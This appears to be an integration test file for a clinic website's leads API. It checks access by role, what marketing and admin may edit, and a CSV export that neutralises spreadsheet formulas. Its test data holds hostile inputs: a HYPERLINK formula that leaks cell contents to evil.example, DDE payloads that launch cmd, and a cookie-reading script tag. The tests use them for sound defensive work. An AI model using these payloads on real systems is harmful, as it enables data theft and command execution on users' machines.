import { randomUUID } from 'node:crypto'

import type { Lead } from '@clinic/shared-types'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import type { Role } from '../../src/auth/roles'
import type { RestClient } from '../helpers/rest'
import { startTestPayload, type TestPayload } from '../helpers/testPayload'
import { createUser, type TestUser } from '../helpers/users'
import { csvRecords } from './support/csv'
import { createCondition, leadsByEmail, newsletter, packet, requester } from './support/leads'

let t: TestPayload
let api: ReturnType<typeof requester>
let admin: RestClient
let marketing: RestClient
let marketingUser: TestUser
let adminUser: TestUser
let packetLead: Lead
let newsletterLead: Lead
let hostileLead: Lead
const outsiders: Record<string, RestClient> = {}

const SCRIPT = '<script>alert(document.cookie)</script>'
const hostile = {
  name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  email: '=1+1@example.org',
  phone: '+1 555 010 0199',
  message: `-2+3+cmd|' /C calc'!A0\n@SUM(1+1)*cmd|' /C calc'!A0\n${SCRIPT}`,
}

beforeAll(async () => {
  t = await startTestPayload()
  api = requester(t.config)
  const condition = await createCondition(t, '=Knee osteoarthritis')

  adminUser = await createUser(t.payload, ['admin'])
  admin = await t.rest.login(adminUser.email, adminUser.password)
  marketingUser = await createUser(t.payload, ['marketing'])
  marketing = await t.rest.login(marketingUser.email, marketingUser.password)
  for (const role of ['editor', 'medical-reviewer', 'publisher'] as Role[]) {
    const user = await createUser(t.payload, [role])
    outsiders[role] = await t.rest.login(user.email, user.password)
  }
  // Marketing's API key (read-only credentials for their tools): a different person, a real key.
  const key = randomUUID()
  await t.payload.create({
    collection: 'users',
    data: {
      email: 'marketing-tool@example.test',
      password: 'pw-tool-123456',
      name: 'Mailing tool',
      roles: ['marketing'],
      enableAPIKey: true,
      apiKey: key,
    },
    overrideAccess: true,
  })
  outsiders['marketing API key'] = t.rest.withHeaders({ Authorization: `users API-Key ${key}` })
  outsiders.anonymous = t.rest

  const p = packet(condition.id)
  expect((await api.json(p)).status).toBe(201)
  packetLead = (await leadsByEmail(t.payload, p.email))[0]!
  const n = newsletter()
  expect((await api.json(n)).status).toBe(201)
  newsletterLead = (await leadsByEmail(t.payload, n.email))[0]!
  expect((await api.json(packet(condition.id, { ...hostile, sourcePage: '/-danger' }))).status).toBe(201)
  hostileLead = (await leadsByEmail(t.payload, hostile.email))[0]!
})
afterAll(() => t?.stop())

const who = () => Object.keys(outsiders)

describe('who cannot see leads', () => {
  it.each(['anonymous', 'editor', 'medical-reviewer', 'publisher', 'marketing API key'])(
    '%s: no list, no document, no count, no versions, no export',
    async (name) => {
      const client = outsiders[name]!
      expect(who()).toContain(name)
      for (const path of [
        '/leads',
        '/leads?limit=100&depth=0',
        `/leads/${packetLead.id}`,
        '/leads/count',
        '/leads/versions',
        '/leads/export.csv',
      ]) {
        const response = await client.get(path)
        const body = await response.text()
        expect([401, 403, 404], `${name} GET ${path} → ${response.status}`).toContain(response.status)
        expect(body).not.toContain(packetLead.email)
        expect(body).not.toMatch(/"totalDocs":\s*[1-9]/)
      }
    },
  )

  it.each(['anonymous', 'editor', 'medical-reviewer', 'publisher', 'marketing API key'])(
    '%s: cannot create, change or delete leads through the REST API',
    async (name) => {
      const client = outsiders[name]!
      expect(
        (
          await client.post('/leads', {
            kind: 'newsletter',
            email: 'x@example.org',
            consent: true,
            consentText: 'x',
            consentedAt: new Date().toISOString(),
          })
        ).status,
      ).toBe(403)
      expect((await client.patch(`/leads/${packetLead.id}`, { status: 'handled' })).status).toBe(403)
      expect((await client.delete(`/leads/${packetLead.id}`)).status).toBe(403)
      const stored = await t.payload.findByID({ collection: 'leads', id: packetLead.id, overrideAccess: true })
      expect(stored.status).toBe('new')
    },
  )

  it('not even admin or marketing can create leads except through the submit endpoint', async () => {
    for (const client of [admin, marketing]) {
      expect((await client.post('/leads', { kind: 'newsletter', email: 'x@example.org', consent: true })).status).toBe(403)
    }
  })

  it('the Local API refuses an API-key user the same way (as Payload marks one)', async () => {
    const user = await t.payload.findByID({ collection: 'users', id: marketingUser.id, overrideAccess: true })
    await expect(
      t.payload.find({ collection: 'leads', overrideAccess: false, user: { ...user, collection: 'users', _strategy: 'api-key' } }),
    ).rejects.toThrow(/not allowed/i)
  })
})

describe('marketing and admin', () => {
  it('read the list, one lead and the count; marketing does not see the client key, nobody sees the token hash', async () => {
    for (const [client, isAdmin] of [
      [marketing, false],
      [admin, true],
    ] as const) {
      const list = await client.get('/leads?limit=100&depth=0')
      expect(list.status).toBe(200)
      const { docs } = await list.json()
      expect(docs.map((d: Lead) => d.id).sort()).toEqual([packetLead.id, newsletterLead.id, hostileLead.id].sort())
      const one = await (await client.get(`/leads/${newsletterLead.id}`)).json()
      expect(one.email).toBe(newsletterLead.email)
      expect(one.confirmTokenHash).toBeUndefined()
      expect('clientKey' in one).toBe(isAdmin)
      expect((await (await client.get('/leads/count')).json()).totalDocs).toBe(3)
    }
  })

  it('marketing marks a lead handled (who and when are recorded) and back, but changes nothing else', async () => {
    const response = await marketing.patch(`/leads/${packetLead.id}`, {
      status: 'handled',
      email: 'changed@example.org',
      name: 'Changed',
      kind: 'newsletter',
      consent: false,
      handledBy: adminUser.id,
      handledAt: '2000-01-01T00:00:00.000Z',
    })
    expect(response.status).toBe(200)
    let stored = await t.payload.findByID({ collection: 'leads', id: packetLead.id, overrideAccess: true, depth: 0 })
    expect(stored).toMatchObject({
      status: 'handled',
      handledBy: marketingUser.id,
      email: packetLead.email,
      name: packetLead.name,
      kind: 'information-packet',
      consent: true,
    })
    expect(Date.now() - new Date(stored.handledAt!).getTime()).toBeLessThan(60_000)

    await marketing.patch(`/leads/${packetLead.id}`, { status: 'new' })
    stored = await t.payload.findByID({ collection: 'leads', id: packetLead.id, overrideAccess: true, depth: 0 })
    expect(stored).toMatchObject({ status: 'new', handledBy: null, handledAt: null })
  })

  it('marketing marks several leads handled at once (bulk edit in the list)', async () => {
    const ids = [packetLead.id, newsletterLead.id]
    const response = await marketing.patch(`/leads?where[id][in]=${ids.join(',')}`, { status: 'handled' })
    expect(response.status).toBe(200)
    const { docs } = await t.payload.find({ collection: 'leads', where: { id: { in: ids } }, overrideAccess: true, depth: 0 })
    expect(docs.map((d) => [d.status, d.handledBy])).toEqual([
      ['handled', marketingUser.id],
      ['handled', marketingUser.id],
    ])
    await marketing.patch(`/leads?where[id][in]=${ids.join(',')}`, { status: 'new' })
  })

  it('an admin may correct contact details, but not the consent record', async () => {
    await admin.patch(`/leads/${packetLead.id}`, { phone: '+44 20 7946 0958', consentText: 'Something else', consent: false })
    const stored = await t.payload.findByID({ collection: 'leads', id: packetLead.id, overrideAccess: true })
    expect(stored.phone).toBe('+44 20 7946 0958')
    expect(stored.consentText).toBe(packetLead.consentText)
    expect(stored.consent).toBe(true)
  })

  it('only an admin deletes leads', async () => {
    const n = newsletter()
    await api.json(n)
    const [lead] = await leadsByEmail(t.payload, n.email)
    expect((await marketing.delete(`/leads/${lead!.id}`)).status).toBe(403)
    expect((await admin.delete(`/leads/${lead!.id}`)).status).toBe(200)
    expect(await leadsByEmail(t.payload, n.email)).toEqual([])
  })
})

describe('CSV export', () => {
  it('gives marketing every lead with a header row, formulas neutralised and markup left as inert text', async () => {
    const response = await marketing.get('/leads/export.csv')
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"$/)
    expect(response.headers.get('cache-control')).toContain('no-store')
    const bytes = new Uint8Array(await response.arrayBuffer())
    // A UTF-8 byte-order mark first, so Excel reads the accents right.
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const text = new TextDecoder().decode(bytes)
    expect(text.startsWith('"id","createdAt","kind","status"')).toBe(true)

    const records = csvRecords(text)
    expect(records.map((r) => Number(r.id)).sort()).toEqual([packetLead.id, newsletterLead.id, hostileLead.id].sort())
    // No cell anywhere starts a formula.
    for (const record of records) for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)

    const row = records.find((r) => Number(r.id) === hostileLead.id)!
    expect(row.name).toBe(`'${hostile.name}`)
    expect(row.email).toBe(`'${hostile.email}`)
    expect(row.phone).toBe(`'${hostile.phone}`)
    expect(row.message).toBe(`'${hostile.message}`)
    expect(row.message).toContain(SCRIPT)
    expect(row.condition).toBe("'=Knee osteoarthritis")
    expect(row.sourcePage).toBe('/-danger')
    expect(row).not.toHaveProperty('clientKey')
    expect(row).not.toHaveProperty('confirmTokenHash')
  })

  it('applies the list filters and search, and admins can export too', async () => {
    const onlyNewsletter = csvRecords(await (await marketing.get('/leads/export.csv?where[kind][equals]=newsletter')).text())
    expect(onlyNewsletter.map((r) => Number(r.id))).toEqual([newsletterLead.id])
    const searched = csvRecords(await (await admin.get(`/leads/export.csv?search=${encodeURIComponent(packetLead.email)}`)).text())
    expect(searched.map((r) => Number(r.id))).toEqual([packetLead.id])
  })

  it('gives confirmed subscribers a working unsubscribe link for the mailing tool', async () => {
    await t.payload.update({ collection: 'leads', id: newsletterLead.id, data: { newsletterStatus: 'confirmed' }, overrideAccess: true })
    const [row] = csvRecords(await (await marketing.get('/leads/export.csv?where[newsletterStatus][equals]=confirmed')).text())
    expect(row!.unsubscribeUrl).toMatch(/^http:\/\/localhost:3000\/api\/leads\/unsubscribe\?token=/)
    const unsubscribe = await api.get(new URL(row!.unsubscribeUrl!).pathname.replace('/api', '') + new URL(row!.unsubscribeUrl!).search)
    expect(unsubscribe.status).toBe(303)
    const stored = await t.payload.findByID({ collection: 'leads', id: newsletterLead.id, overrideAccess: true })
    expect(stored.newsletterStatus).toBe('unsubscribed')
  })

  it('refuses filters on what the caller may not read', async () => {
    const response = await marketing.get(`/leads/export.csv?where[clientKey][equals]=${hostileLead.clientKey}`)
    expect(response.status).not.toBe(200)
  })
})
